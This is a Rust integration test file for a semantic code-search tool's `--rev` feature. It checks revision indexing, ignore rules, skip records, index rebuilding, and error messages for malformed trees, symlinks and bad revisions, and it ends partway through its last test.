//! `--rev`: a git revision indexed from the object database (the working
//! tree untouched), searched on its own, sharing vectors with every other
//! index of the project so that nothing is embedded twice, and forgotten.

use crate::common::*;

const CLIENT_V1: &str = "def upload(client, path):\n    \"\"\"Send one file to the storage server.\"\"\"\n    return client.put(path, open(path, 'rb').read())\n";
const CLIENT_V2: &str = "def upload(client, path, attempts=5):\n    \"\"\"Send one file, trying again with exponential backoff.\"\"\"\n    for attempt in range(attempts):\n        try:\n            return client.put(path, open(path, 'rb').read())\n        except ConnectionError:\n            time.sleep(2 ** attempt)\n";
const PARSER: &str = "def parse_config(text):\n    \"\"\"Read key = value lines into a dict.\"\"\"\n    return dict(line.split(' = ', 1) for line in text.splitlines() if line)\n";
const CACHE: &str = "class TemplateCache:\n    \"\"\"Rendered templates kept in memory by name.\"\"\"\n    def __init__(self):\n        self.rendered = {}\n";

/// A repository whose first commit has the upload client without retries
/// and a config parser, and whose second (HEAD, checked out) retries and adds a cache.
pub(crate) fn two_releases() -> Tree {
    let tree = git_repo();
    tree.write("src/client.py", CLIENT_V1).write("src/config.py", PARSER);
    commit_all(&tree, "v1");
    git(&tree, &["tag", "v1"]);
    tree.write("src/client.py", CLIENT_V2).write("src/cache.py", CACHE);
    commit_all(&tree, "v2");
    tree
}

fn summary_of_failed(o: &std::process::Output) -> serde_json::Value {
    of_type(&records(o), "summary")[0].clone()
}

fn summary_of(o: &std::process::Output) -> serde_json::Value {
    assert_code(o, 0);
    of_type(&records(o), "summary")[0].clone()
}

/// A subproject's revision keeps the rules of the ignore files above its
/// root and of the repository's `info/exclude`, as its working tree does:
/// the revision's tree was written from the root down, those files were
/// never read, and `--rev` found what every working-tree search leaves out
/// (audits 191, 194). The root's own rules still outrank them.
#[test]
fn a_subprojects_revision_keeps_the_ignore_rules_above_its_root() {
    let tree = git_repo();
    // `.*` leaves out the subproject's own ignore files, whose rules the
    // walk reads all the same (review 196).
    tree.write(".gitignore", "*.gen.py\n.*\n!.gitignore\n")
        .write(".vecgrepignore", "secret_notes.py\n")
        .write("sub/.gitignore", "!kept.gen.py\n")
        .write("sub/.vecgrepignore", "local_notes.py\n")
        .write("sub/src/local_notes.py", "def okapi_local():\n    pass\n")
        .write("sub/src/a.gen.py", "def zebra_striped_horse():\n    pass\n")
        .write("sub/src/kept.gen.py", "def okapi_kept():\n    pass\n")
        .write("sub/src/secret_notes.py", "def okapi_notes():\n    pass\n")
        .write("sub/src/b.py", "def lion_roars():\n    pass\n")
        .write("sub/vendor/c.py", "def lion_vendored():\n    pass\n");
    git(&tree, &["add", "-f", "."]);
    git(&tree, &["commit", "-qm", "c1"]);
    // The repository's own exclude, which the working tree's walk applies
    // too (audit 194).
    std::fs::write(tree.path().join(".git/info/exclude"), "/sub/vendor/\n").unwrap();
    std::fs::create_dir(tree.path().join("sub/.vecgrep")).unwrap();
    let files = |rev: &[&str]| {
        let o = run(tree.cmd("vecgrep", "sub").args(rev).args(["-l", "--mode", "lexical", "zebra okapi lion"]));
        let mut found: Vec<String> = stdout(&o).lines().map(str::to_string).collect();
        found.sort();
        found
    };
    let expected = ["src/b.py", "src/kept.gen.py"];
    assert_eq!(files(&[]), expected, "the working tree");
    assert_eq!(files(&["--rev", "HEAD"]), expected, "the revision");
    // The exclude edited: the revision is indexed again, as the working
    // tree is walked again (review 196).
    std::fs::write(tree.path().join(".git/info/exclude"), "").unwrap();
    let expected = ["src/b.py", "src/kept.gen.py", "vendor/c.py"];
    assert_eq!(files(&[]), expected, "the working tree");
    assert_eq!(files(&["--rev", "HEAD"]), expected, "the revision");
}

/// A revision whose tree holds an ignore file with a line that is not UTF-8
/// never completed: the walk leaves that directory out as an error, and
/// the tree, which never changes, gave each run the same error (audit 194).
/// It completes without the directory, and its searches say so.
#[test]
fn a_revision_with_an_unreadable_ignore_file_completes_without_its_directory() {
    let tree = git_repo();
    tree.write("t.py", "def keep_dragons():\n    pass\n").write("d/x.py", "def hidden_dragons():\n    pass\n");
    std::fs::write(tree.path().join("d/.gitignore"), b"# f\xfcr\n*.bak\n").unwrap();
    // Such files in directories the walk never enters (one ignored, one
    // hidden) are no error, as in the working tree (review 197).
    tree.write(".gitignore", "vendor/\n");
    for dir in ["vendor", ".cache"] {
        std::fs::create_dir_all(tree.path().join(dir)).unwrap();
        std::fs::write(tree.path().join(dir).join(".gitignore"), b"ok\n\xff\n").unwrap();
    }
    git(&tree, &["add", "-f", "."]);
    commit_all(&tree, "c1");
    let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("skipping d: ignore file .gitignore: line 1 is not UTF-8"), "{}", stderr(&o));
    assert!(!stderr(&o).contains("vendor") && !stderr(&o).contains(".cache"), "{}", stderr(&o));
    assert_eq!(summary_of_failed(&o)["errors"], 1);
    let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("is indexed already"), "{}", stderr(&o));
    let o = run(tree.cmd("vecgrep", "").args(["--no-index", "--rev", "HEAD", "-l", "dragons"]));
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "t.py\n");
    assert!(
        stderr(&o).contains("lacks entries of its tree that could not be written: d: ignore file"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_revision_is_indexed_from_git_embedding_only_what_differs_and_searched_alone() {
    let tree = two_releases();
    tree.global_config("embed_all = true\n");
    let working = summary_of(&run(&mut tree.cmd("vg-index", "")));
    assert_eq!(working["files"], 3);

    let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
    let rev = summary_of(&o);
    let v1 = git(&tree, &["rev-parse", "v1"]);
    assert_eq!(rev["rev"], v1.as_str());
    assert_eq!(rev["files"], 2);
    assert_eq!(rev["embedded"], 1, "only the old client is new to the project: {rev}");
    assert_eq!(rev["copied"], 1, "the unchanged parser's vector is copied");
    assert_eq!(git(&tree, &["status", "--porcelain", "--untracked-files=no"]), "", "the working tree is untouched");
    assert_eq!(read(&tree.path().join("src/client.py")), CLIENT_V2);

    // The revision answers with its own files; the working tree with its own.
    let q = ["--threshold", "-1", "-k", "1", "class that keeps rendered templates"];
    let hit = |o: &std::process::Output| of_type(&records(o), "hit")[0].clone();
    let at_head = hit(&run(tree.cmd("vg-query", "").args(q)));
    assert_eq!((at_head["file"].as_str(), at_head.get("rev")), (Some("src/cache.py"), None));
    let at_v1 = hit(&run(tree.cmd("vg-query", "").args(["--rev", "v1"]).args(q)));
    assert_ne!(at_v1["file"], "src/cache.py", "v1 has no cache");
    assert_eq!(at_v1["rev"], v1.as_str());
    let old = hit(&run(tree.cmd("vg-query", "").args([
        "--rev",
        "v1",
        "--no-index",
        "-k",
        "1",
        "send a file to the storage server",
    ])));
    assert_eq!((old["file"].as_str(), old["text"].as_str()), (Some("src/client.py"), Some(CLIENT_V1.trim_end())));

    // Indexed again: nothing to do.
    let again = run(tree.cmd("vg-index", "").args(["--rev", v1.as_str()]));
    assert_eq!(summary_of(&again)["files"], 0);
    assert!(stderr(&again).contains("is indexed already"), "{}", stderr(&again));
    // Other chunking is another index: the revision is rebuilt, not searched stale.
    let rechunked = run(tree.cmd("vg-index", "").args(["--rev", "v1", "--chunk-size", "300"]));
    assert_eq!(summary_of(&rechunked)["files"], 2, "{}", stderr(&rechunked));

    let stats = records(&run(tree.cmd("vg-index", "").args(["--stats", "--json"])));
    let listed = &stats[0]["revisions"];
    assert_eq!(listed.as_array().unwrap().len(), 1, "{stats:?}");
    assert_eq!(listed[0]["sha"], v1.as_str());
    assert_eq!(listed[0]["names"], serde_json::json!(["v1", v1]));
    assert_eq!((listed[0]["complete"].as_bool(), listed[0]["files"].as_u64()), (Some(true), Some(2)));
    crate::contract::check(&stats[0]);
}

/// A run from within a revision's directory of the project's kept indexes
/// never takes it for a project (audit 214: its own `.vecgrep` made it a
/// root, the run walked it empty and removed every file of its index,
/// which stayed marked complete).
#[test]
fn a_run_from_within_a_revisions_directory_leaves_its_index_whole() {
    let tree = two_releases();
    let v1 = git(&tree, &["rev-parse", "v1"]);
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    let inside = format!(".vecgrep/revs/{v1}");
    let o = run(tree.cmd("vg-root", &inside).arg("--json"));
    assert_eq!(std::path::PathBuf::from(records(&o)[0]["root"].as_str().unwrap()), tree.path(), "{}", stdout(&o));
    for tool in ["vg-index", "vecgrep"] {
        let o = run(tree.cmd(tool, &inside).arg("upload"));
        assert!(!stdout(&o).contains("\"removed\""), "{tool}: {}", stdout(&o));
    }
    let o = run(tree.cmd("vg-query", "").args(["--no-index", "--rev", "v1", "--threshold", "-1", "upload"]));
    assert_code(&o, 0);
    assert!(records(&o).iter().any(|h| h["file"] == "src/client.py"), "{}", stdout(&o));
    // A project of its own under such a name is still its own root (review 216).
    let own = Tree::bare();
    std::fs::create_dir_all(own.path().join(".vecgrep/revs/proj/.git")).unwrap();
    let o = run(own.cmd("vg-root", ".vecgrep/revs/proj").arg("--json"));
    let root = std::path::PathBuf::from(records(&o)[0]["root"].as_str().unwrap());
    assert_eq!(root, own.path().join(".vecgrep/revs/proj"), "{}", stdout(&o));
}

/// A commit of a tree made by hand (git's own commands refuse such
/// names): `entries` as (name, text), in the order given; the branch
/// `main` moved to it.
fn crafted_commit(tree: &Tree, entries: &[(&str, &str)]) -> String {
    let mut bytes = Vec::new();
    for (name, text) in entries {
        let blob = git_fed(tree, &["hash-object", "-w", "--stdin"], text.as_bytes());
        bytes.extend(format!("100644 {name}\0").as_bytes());
        bytes.extend((0..20).map(|i| u8::from_str_radix(&blob[2 * i..2 * i + 2], 16).unwrap()));
    }
    let tree_id = git_fed(tree, &["hash-object", "-w", "--stdin", "--literally", "-t", "tree"], &bytes);
    let commit = git(tree, &["commit-tree", &tree_id, "-m", "crafted tree"]);
    git(tree, &["update-ref", "refs/heads/main", &commit]);
    commit
}

/// An entry whose name holds a `/` or is `..` is left out and said (its
/// `skip` record's path the name as found, spec/ndjson.md), and
/// the entries after it keep their paths (audit 214: gix's recorder moved
/// `main.py` to `src/main.py`, and after `../x.py` dropped every entry,
/// the revision complete with 0 files).
#[test]
fn a_crafted_trees_bad_names_are_said_and_its_other_entries_keep_their_paths() {
    let tree = git_repo();
    for bad in ["src/x.py", "../x.py"] {
        crafted_commit(&tree, &[(bad, "def slash_named(): pass\n"), ("main.py", "def main_entry_point(): pass\n")]);
        // Status 2, as for any file a run could not index.
        let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
        assert_code(&o, 2);
        let recs = records(&o);
        let files: Vec<&str> = of_type(&recs, "file").iter().map(|f| f["file"].as_str().unwrap()).collect();
        assert_eq!(files, ["main.py"], "{bad}: {}", stdout(&o));
        let skip = of_type(&recs, "skip")[0].clone();
        // The name as found, which the sentence quotes (audit 234: the
        // record's path held the quotes, and matched no entry).
        assert_eq!(skip["file"], bad, "{skip}");
        let said = format!("an entry named {bad:?}, which no checkout holds");
        assert!(skip["message"].as_str().unwrap().contains(&said), "{skip}");
    }
    // The log reads it too, with no .git/index to build one from its tree.
    assert!(!tree.path().join(".git/index").exists());
    let o = run(tree.cmd("vg-log", "").args(["--threshold", "-1", "main entry point"]));
    assert_code(&o, 0);
    assert_eq!(of_type(&records(&o), "commit")[0]["paths"], serde_json::json!(["main.py"]), "{}", stdout(&o));
}

/// A revision's `@{upstream}` or `@{push}` that names nothing is said in
/// git's sense (audit 214: gix's "Couldn't find sibling of Upstream").
#[test]
fn a_missing_upstream_is_said_as_git_says_it() {
    let tree = two_releases();
    git(&tree, &["branch", "-q", "-M", "main"]);
    // A clone's upstream resolves, and what fails past it is its own error
    // (review 216: `@{u}~100` was "no upstream").
    let clone = Tree::bare();
    git(&clone, &["clone", "-q", &tree.path().display().to_string(), "."]);
    assert_code(&run(clone.cmd("vg-index", "").args(["--rev", "@{u}"])), 0);
    let o = run(clone.cmd("vg-index", "").args(["--rev", "@{u}~100"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("out of range") && !stderr(&o).contains("no upstream"), "{}", stderr(&o));
    for (spec, why) in [
        ("@{u}", "branch main has no upstream (none is configured, or it was never fetched)"),
        ("main@{push}", "branch main has no push destination (none is configured, or it was never fetched)"),
    ] {
        let o = run(tree.cmd("vg-index", "").args(["--rev", spec]));
        assert_code(&o, 2);
        assert_eq!(stderr(&o), format!("vg-index: unknown revision {spec:?}: {why}\n"));
    }
    git(&tree, &["checkout", "-q", "--detach"]);
    let o = run(tree.cmd("vg-index", "").args(["--rev", "@{upstream}"]));
    assert!(stderr(&o).ends_with(": HEAD is detached, on no branch, and so has no upstream\n"), "{}", stderr(&o));
}

/// A FIFO at the repository's `info/exclude` is refused, as the working
/// tree's walk refuses it (audit 214: `--rev` waited on it for ever).
#[test]
fn a_fifo_at_info_exclude_is_refused_not_waited_on() {
    let tree = two_releases();
    let exclude = tree.path().join(".git/info/exclude");
    let _ = std::fs::remove_file(&exclude);
    assert!(std::process::Command::new("mkfifo").arg(&exclude).status().unwrap().success());
    let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("info/exclude: not a regular file"), "{}", stderr(&o));
}

/// A revision's hit shows its context from that revision: the lines
/// around it came from the work tree's file, which an uncommitted change
/// outside the hit's chunk had made another.
#[test]
fn a_revisions_hit_shows_the_lines_around_it_as_they_are_there() {
    let tree = git_repo();
    let totals: String =
        (0..12).map(|i| format!("    total_{i} = sum(item.price for item in items)  # line {i}\n")).collect();
    let mails: String = (0..12).map(|i| format!("    mailer.send(user, body='OLD BODY {i}')\n")).collect();
    let text = format!(
        "def invoice_total(items):\n{totals}    return total_0\n\n\ndef welcome(user):\n{mails}    return True\n"
    );
    tree.write("billing.py", &text);
    commit_all(&tree, "one");
    git(&tree, &["tag", "old"]);
    tree.write("billing.py", &text.replace("OLD BODY", "NEW BODY"));
    let o = run(tree.cmd("vecgrep", "").args([
        "--rev",
        "old",
        "--threshold",
        "-1",
        "-k",
        "1",
        "-A",
        "20",
        "invoice total price",
    ]));
    assert_code(&o, 0);
    let out = stdout(&o);
    assert!(out.contains("OLD BODY") && !out.contains("NEW BODY"), "{out}");
}

/// What a revision's run leaves out is said as a walk of the working tree
/// says it: a skip record each, counted in the summary; a name that is not
/// UTF-8 is never indexed under a garbled one.
#[test]
fn files_a_revision_leaves_out_are_skip_records_as_in_the_working_tree() {
    use std::os::unix::ffi::OsStrExt;
    let tree = two_releases();
    tree.write("data/big.py", &"x = 1\n".repeat(200_000));
    std::fs::write(tree.path().join(std::ffi::OsStr::from_bytes(b"src/bad\xffname.py")), PARSER).unwrap();
    std::os::unix::fs::symlink("config.py", tree.path().join("src/link.py")).unwrap();
    // A link out of the project is written as a link and removed as one, never followed.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("keep.txt"), "not the project's\n").unwrap();
    std::os::unix::fs::symlink(outside.path(), tree.path().join("escape")).unwrap();
    // What the walk passes over in silence (a hidden directory) it passes over in a revision too.
    tree.write(".github/huge.py", &"y = 2\n".repeat(200_000));
    commit_all(&tree, "v3");
    let reasons = |o: &std::process::Output| -> Vec<(String, String)> {
        let mut r: Vec<(String, String)> = of_type(&records(o), "skip")
            .iter()
            .map(|s| (s["file"].as_str().unwrap().to_string(), s["reason"].as_str().unwrap().to_string()))
            .collect();
        r.sort();
        r
    };
    let working = run(&mut tree.cmd("vg-index", ""));
    let rev = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    let summary = summary_of(&rev);
    assert_eq!(reasons(&rev), reasons(&working), "{}", stdout(&rev));
    let skipped: Vec<String> = reasons(&rev).into_iter().map(|(_, reason)| reason).collect();
    assert_eq!(skipped, ["too_large", "symlink", "non_utf8_path", "symlink"]);
    assert_eq!((summary["skipped"].as_u64(), summary["files"].as_u64()), (Some(4), Some(3)), "{summary}");
    assert!(outside.path().join("keep.txt").is_file(), "removing the revision's files followed a link");
    let left: Vec<_> = std::fs::read_dir(tree.path().join(".vecgrep/revs").join(summary["rev"].as_str().unwrap()))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, [".vecgrep"], "the revision's files, links too, were only there to be read");
    let o =
        run(tree.cmd("vg-query", "").args(["--rev", "HEAD", "--threshold", "-1", "-k", "20", "read key value lines"]));
    assert!(
        of_type(&records(&o), "hit").iter().all(|h| !h["file"].as_str().unwrap().contains('\u{fffd}')),
        "{}",
        stdout(&o)
    );
}

/// What a revision's index admits follows the settings of the run that
/// asks, as the working tree's does: a generated file or a large one comes
/// in and goes out again with `--include-generated` and `--max-filesize`,
/// rather than staying as the revision's first run left it.
#[test]
fn a_revision_is_indexed_again_when_other_settings_admit_other_files() {
    let tree = two_releases();
    tree.write(
        "api/invoice.pb.go",
        "// Code generated by protoc. DO NOT EDIT.\npackage api\nfunc MarshalInvoice() {}\n",
    );
    commit_all(&tree, "v3");
    let files = |args: &[&str]| -> Vec<String> {
        let o = run(tree
            .cmd("vg-query", "")
            .args(["--rev", "HEAD", "--threshold", "-1", "-k", "20"])
            .args(args)
            .arg("marshal invoice"));
        let mut f: Vec<String> =
            of_type(&records(&o), "hit").iter().map(|h| h["file"].as_str().unwrap().to_string()).collect();
        f.sort();
        f.dedup();
        f
    };
    let all = ["api/invoice.pb.go", "src/cache.py", "src/client.py", "src/config.py"];
    assert_eq!(files(&[]), &all[1..]);
    assert_eq!(files(&["--include-generated"]), all);
    assert_eq!(files(&[]), &all[1..], "the generated file stayed after the run that admitted it");
    assert_eq!(files(&["--max-filesize", "150"]), ["src/cache.py", "src/config.py"]);
    assert_eq!(files(&[]), &all[1..]);
    // Settings a run already has do not run it again.
    let again = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert!(stderr(&again).contains("is indexed already"), "{}", stderr(&again));
}

#[test]
fn switching_branches_embeds_nothing_any_revision_already_embedded() {
    let tree = two_releases();
    tree.global_config("embed_all = true\n");
    summary_of(&run(&mut tree.cmd("vg-index", "")));
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])));
    git(&tree, &["checkout", "-q", "v1"]);
    let back = summary_of(&run(&mut tree.cmd("vg-index", "")));
    assert_eq!((back["embedded"].as_u64(), back["removed"].as_u64()), (Some(0), Some(1)), "{back}");
    git(&tree, &["checkout", "-q", "main"]);
    // main's own vectors left the project when v1 was checked out (only the
    // working tree's index held them), so coming back embeds them again;
    // with main indexed as a revision too, switching embeds nothing either way.
    let head = summary_of(&run(&mut tree.cmd("vg-index", "")));
    assert_eq!(head["embedded"], 2, "the retrying client and the cache: {head}");
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "main"])));
    git(&tree, &["checkout", "-q", "v1"]);
    assert_eq!(summary_of(&run(&mut tree.cmd("vg-index", "")))["embedded"], 0);
    git(&tree, &["checkout", "-q", "main"]);
    assert_eq!(summary_of(&run(&mut tree.cmd("vg-index", "")))["embedded"], 0);
}

/// Under `git replace`, an index is forgotten by its sha, as the advice
/// says: git read the replacement for the sha, which has no index, and
/// the index could not be forgotten.
#[test]
fn a_replaced_revision_is_forgotten_by_its_sha() {
    let tree = two_releases();
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])));
    let v1 = git(&tree, &["rev-parse", "v1"]);
    let dir = tree.path().join(".vecgrep/revs").join(&v1);
    git(&tree, &["replace", &v1, "main"]);
    let o = run(tree.cmd("vg-index", "").args(["--forget", &v1[..12]]));
    assert_code(&o, 0);
    assert!(!dir.exists(), "{}", stderr(&o));
}

/// A revision's index a search found damaged is rebuilt by the next run
/// over the revision, as a working tree's is (audit 276: `vg-index --rev`
/// said "indexed already" and every search of it failed on).
#[test]
fn a_damaged_revision_index_is_rebuilt_by_the_next_run() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])), 0);
    let sha = git(&tree, &["rev-parse", "v1"]);
    let db = tree.path().join(format!(".vecgrep/revs/{sha}/.vecgrep/index.db"));
    let (root, page_size): (usize, usize) = {
        let c = rusqlite::Connection::open(&db).unwrap();
        let root: i64 =
            c.query_row("SELECT rootpage FROM sqlite_master WHERE name = 'chunks'", [], |r| r.get(0)).unwrap();
        let size: i64 = c.query_row("PRAGMA page_size", [], |r| r.get(0)).unwrap();
        (root as usize, size as usize)
    };
    let mut bytes = std::fs::read(&db).unwrap();
    bytes[(root - 1) * page_size..root * page_size].fill(0xde);
    std::fs::write(&db, bytes).unwrap();
    let search =
        |tree: &Tree| run(tree.cmd("vecgrep", "").args(["--rev", "v1", "--mode", "lexical", "parse the config"]));
    let o = search(&tree);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("is damaged"), "{}", stderr(&o));
    let o = run(tree.cmd("vg-index", "").args(["--rev", "v1"]));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("rebuilding the index") && !stderr(&o).contains("indexed already"), "{}", stderr(&o));
    let o = search(&tree);
    assert_code(&o, 0);
    assert!(stdout(&o).contains("config.py"), "{}", stdout(&o));
}

/// The sha of revision `rev` of `tree`, its index left as a run stopped
/// part-way leaves it: without the mark that says it is whole.
fn left_as_a_stopped_run_leaves(tree: &Tree, rev: &str) -> String {
    let sha = git(tree, &["rev-parse", rev]);
    std::fs::remove_file(tree.path().join(".vecgrep/revs").join(&sha).join(".vecgrep/revision")).unwrap();
    sha
}

/// A revision whose run was stopped is said to be indexed in part; while a
/// run holds it, to be under way (not to be completed by another run,
/// which would wait on that one's lock).
#[test]
fn a_revision_indexed_in_part_says_whether_its_run_is_under_way() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "main"]).stdout(std::process::Stdio::null())), 0);
    let main = left_as_a_stopped_run_leaves(&tree, "main");
    let o = run(tree.cmd("vg-query", "").args(["--rev", "main", "--no-index", "x"]));
    assert_code(&o, 2);
    assert!(
        stderr(&o).contains("is indexed in part (its run has not finished); vg-index --rev main completes it"),
        "{}",
        stderr(&o)
    );
    let lock = tree.path().join(".vecgrep/revs").join(&main).join(".vecgrep/index.lock");
    if std::process::Command::new("flock").arg("--version").output().is_ok() {
        let mut held = std::process::Command::new("flock");
        held.arg(&lock).arg(bin("vg-query")).args(["--rev", "main", "--no-index", "x"]);
        let o = run(held.current_dir(tree.path()).env("XDG_CONFIG_HOME", tree.config_home.path()));
        assert!(stderr(&o).contains("is being indexed: an index run is under way"), "{}", stderr(&o));
    }
}

/// A run that waited for another's lock while that one made the revision
/// whole finds it indexed already: it wrote the tree out, walked it and
/// counted every file again.
#[test]
fn a_revision_made_whole_while_its_run_waited_is_indexed_already() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "main"]).stdout(std::process::Stdio::null())), 0);
    let sha = git(&tree, &["rev-parse", "main"]);
    let mark = tree.path().join(".vecgrep/revs").join(&sha).join(".vecgrep/revision");
    let whole = std::fs::read(&mark).unwrap();
    left_as_a_stopped_run_leaves(&tree, "main");
    let lock = hold_index_lock(&tree);
    let mut waiting = tree.cmd("vg-index", "");
    let piped = std::process::Stdio::piped;
    let waiting = waiting.args(["--rev", "main"]).stdout(piped()).stderr(piped()).spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_secs(2));
    // The run it waits for ends, the revision whole.
    std::fs::write(&mark, whole).unwrap();
    drop(lock);
    let o = waiting.wait_with_output().unwrap();
    let summary = summary_of(&o);
    assert_eq!((summary["files"].as_u64(), summary["reused"].as_u64()), (Some(0), Some(0)), "{}", stdout(&o));
    assert!(of_type(&records(&o), "file").is_empty(), "{}", stdout(&o));
    assert!(stderr(&o).contains("is indexed already"), "{}", stderr(&o));
}

/// Declined at the large-run question, a first run of a revision leaves
/// nothing: it left an empty revision, unnamed, that --stats called
/// incomplete and promised to resume.
#[test]
fn a_revision_declined_at_the_question_leaves_nothing() {
    let tree = two_releases();
    let cmd = format!("{} --rev main --index-warn-threshold 1", bin("vg-index").display());
    let Some(o) = on_a_terminal(&tree, &cmd, "n\n") else { return };
    assert!(stdout(&o).contains("Continue? [y/N]"), "{}", stdout(&o));
    assert_eq!(revision_count(&tree), 0, "{}", stdout(&o));
    let stats = stdout(&run(tree.cmd("vg-index", "").arg("--stats")));
    assert!(!stats.contains("revision:"), "{stats}");
}

/// Another static table (vecgrep updated, or VECGREP_STATIC_TABLE) is
/// applied to a revision's index as to the working tree's: the revision
/// was taken as indexed already, and every search of it was refused for
/// its static vectors, with advice no run followed.
#[test]
fn another_static_table_is_applied_to_a_revision() {
    let tree = two_releases();
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "v1"]).stdout(std::process::Stdio::null())), 0);
    let dir = tempfile::tempdir().unwrap();
    let other = crate::tiers::another_table(dir.path());
    let var = vecgrep::embed::TABLE_OVERRIDE_VAR;
    let o = run(tree
        .cmd("vg-query", "")
        .args(["--rev", "v1", "--threshold", "-1", "read key value lines"])
        .env(var, &other));
    assert_code(&o, 0);
    assert!(stderr(&o).contains("recomputing the chunks' static vectors"), "{}", stderr(&o));
    assert_eq!(records(&o)[0]["file"], "src/config.py", "{}", stderr(&o));
    // A table cut short that the user chose is theirs to fix, not vecgrep's to fetch.
    let short = dir.path().join("short.bin");
    std::fs::write(&short, &std::fs::read(&other).unwrap()[..4096]).unwrap();
    let o = run(tree.cmd("vg-index", "").env(var, &short));
    assert_code(&o, 2);
    assert!(stderr(&o).contains(&format!("{var} names it; point it at a whole table, or unset it")), "{}", stderr(&o));
}

#[test]
fn forgetting_a_revision_removes_its_index_and_bad_revisions_are_one_line() {
    let tree = two_releases();
    summary_of(&run(tree.cmd("vg-index", "").args(["--rev", "v1"])));
    let v1 = git(&tree, &["rev-parse", "v1"]);
    let dir = tree.path().join(".vecgrep/revs").join(&v1);
    assert!(dir.join(".vecgrep/index.db").is_file());
    let files: Vec<_> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(files, [".vecgrep"], "the revision's files were only there to be read");

    git(&tree, &["tag", "-d", "v1"]);
    let o = run(tree.cmd("vg-index", "").args(["--forget", &v1[..10]]));
    assert_code(&o, 0);
    assert!(!dir.exists());
    let o = run(tree.cmd("vg-index", "").args(["--forget", &v1[..10]]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("has no index") || stderr(&o).contains("unknown revision"), "{}", stderr(&o));

    for (args, says) in [
        (vec!["vg-index", "--rev", "no-such-branch"], "vg-index: unknown revision \"no-such-branch\""),
        (vec!["vg-index", "--rev", "main..v1"], "vg-index: \"main..v1\" names a range of commits"),
        (vec!["vg-index", "--rev", "HEAD^!"], "vg-index: \"HEAD^!\" names a range of commits"),
        (vec!["vg-index", "--rev", "HEAD~99"], "cannot resolve revision \"HEAD~99\": Commit "),
        (vec!["vg-index", "--rev", "a b"], "cannot resolve revision \"a b\": Reference name contains invalid byte"),
        (vec!["vg-index", "--rev=--help"], "vg-index: \"--help\" is not a revision"),
        (vec!["vg-index", "--rev", ":/v1"], "vg-index: \":/v1\" is not a revision"),
        (vec!["vg-query", "--rev", "main", "--no-index", "x"], "is not indexed; run vg-index --rev main"),
        (vec!["vg-query", "--rev", "main", "-t", "py", "x"], "vg-query: --rev searches a revision's whole tree"),
        (vec!["vg-index", "--rev", "main", "--hidden"], "vg-index: --rev indexes a revision's whole tree"),
        // A PATH was checked against the working tree, then passed over.
        (
            vec!["vg-index", "--rev", "main", "src"],
            "vg-index: --rev indexes a revision's whole tree; leave out the PATHs",
        ),
        (
            vec!["vg-index", "--rev", "main", "gone"],
            "vg-index: --rev indexes a revision's whole tree; leave out the PATHs",
        ),
        (vec!["vg-index", "--rev", "main", "/etc"], "is outside the project root"),
        (
            vec!["vg-index", "--forget", "main", "src"],
            "vg-index: --forget drops a revision's whole index; leave out the PATHs",
        ),
    ] {
        let o = run(tree.cmd(args[0], "").args(&args[1..]));
        assert_code(&o, 2);
        assert_eq!(stderr(&o).lines().count(), 1, "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(says), "{args:?}: {}", stderr(&o));
    }
    // The project itself is the whole tree a revision is indexed as.
    assert_code(&run(tree.cmd("vg-index", "").args(["--rev", "main", "."]).stdout(std::process::Stdio::null())), 0);
    // Left as a stopped run leaves it, so that the runs below read the revision again.
    left_as_a_stopped_run_leaves(&tree, "main");
    let plain = Tree::bare();
    plain.write("a.py", "x = 1\n");
    std::fs::create_dir(plain.path().join(".vecgrep")).unwrap();
    let o = run(plain.cmd("vg-index", "").args(["--rev", "main"]));
    assert_code(&o, 2);
    assert!(stderr(&o).ends_with("is not in a git repository\n"), "{}", stderr(&o));
    git(&plain, &["init", "-q", "-b", "main"]);
    let o = run(plain.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 2);
    assert_eq!(stderr(&o), "vg-index: unknown revision \"HEAD\": the repository has no commits yet\n");
    // HEAD on a branch without commits, beside one with them.
    git(&tree, &["symbolic-ref", "HEAD", "refs/heads/next"]);
    let o = run(tree.cmd("vg-index", "").args(["--rev", "HEAD"]));
    assert_code(&o, 2);
    assert_eq!(stderr(&o), "vg-index: unknown revision \"HEAD\": HEAD names next, which has no commits yet\n");
    git(&tree, &["symbolic-ref", "HEAD", "refs/heads/main"]);
    // A commit whose object is gone from a repository that should have it.
    git(&tree, &["gc", "-q"]);
    for pack in std::fs::read_dir(tree.path().join(".git/objects/pack")).unwrap() {
        let pack = pack.unwrap().path();
        if pack.extension().is_some_and(|e| e == "pack") {
            std::fs::remove_file(pack).unwrap();
        }
    }
    for (spec, says) in
        [("main", "cannot read revision \"main\": "), ("HEAD~1", "cannot resolve revision \"HEAD~1\": ")]
    {
        let o = run(tree.cmd("vg-index", "").args(["--rev", spec]));
        assert_code(&o, 2);
        let damage = "is missing from the repository, which is damaged";
